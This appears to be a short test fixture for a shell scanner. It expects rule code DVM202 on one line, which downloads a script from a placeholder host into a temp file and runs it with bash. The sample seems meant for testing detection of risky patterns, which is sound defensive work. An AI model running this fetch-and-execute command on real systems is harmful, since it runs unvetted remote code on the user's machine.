# expect: DVM202
tmp=$(mktemp); trap "rm $tmp" EXIT; curl -s https://x.example.org/a > "$tmp"; bash "$tmp"
